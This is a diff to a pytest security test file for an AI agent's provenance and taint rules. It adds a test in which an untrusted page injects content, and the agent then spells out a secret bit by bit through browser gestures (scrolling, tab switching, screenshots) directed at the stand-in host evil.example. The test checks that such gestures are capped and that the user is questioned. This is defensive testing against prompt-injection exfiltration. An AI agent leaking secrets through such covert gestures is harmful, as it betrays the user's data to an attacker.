@@ -3,7 +3,8 @@
 import pytest
 from hypothesis import settings
 
-from choir_agent.provenance.taint_rule import MAX_LINK_CHOICES
+from choir_agent.provenance.taint_rule import MAX_GESTURES, MAX_LINK_CHOICES
+from choir_common.wire.model import JsonObject
 from tests.security.injection.attacks import SOURCES, Attack, attacks
 from tests.security.injection.conversation import EDGE, SECRET, Conversation
 
@@ -61,6 +62,42 @@ def test_a_secret_spelled_by_links_stops_after_a_few() -> None:
         talk.call("choir.web.browse", {"action": "open", "url": url}, {"text": links})
         talk.say("And now?")
     assert len(talk.sent) - before == MAX_LINK_CHOICES
+
+
+@pytest.mark.parametrize(
+    "gestures",
+    [
+        [{"action": "scroll", "to": to} for to in ("up", "down")],
+        [{"action": "tabs", "do": "switch", "tab": tab} for tab in (1, 2)],
+        [{"action": "screenshot", "ref": ref} for ref in (1, 2)],
+        [{"action": "back"}, {"action": "tabs", "do": "close"}],
+    ],
+    ids=["scrolls", "tabs", "screenshots", "back and close"],
+)
+def test_a_secret_spelled_by_what_a_page_can_notice_stops_after_a_while(
+    gestures: list[JsonObject],
+) -> None:
+    talk = Conversation()
+    talk.say("What is new?")
+    SOURCES["page"](talk, EDGE)
+    talk.recall()
+    before, bits = len(talk.sent), "".join(f"{byte:08b}" for byte in SECRET.encode())
+    for number, bit in enumerate(bits):
+        talk.call("choir.web.browse", gestures[int(bit)], {"url": "https://evil.example/"})
+        if number % 10 == 9:
+            talk.say("And now?")
+    assert len(talk.sent) - before == MAX_GESTURES
+    assert talk.questions
+
+
+def test_reading_a_page_is_no_gesture() -> None:
+    talk = Conversation()
+    talk.say("What is new?")
+    SOURCES["page"](talk, EDGE)
+    talk.recall()
+    for start in range(3 * MAX_GESTURES):
+        talk.call("choir.web.browse", {"action": "read", "start": start}, {"text": "words"})
+    assert talk.questions == []
 
 
 def test_a_note_made_under_an_untrusted_page_has_its_trust_a_turn_later() -> None:
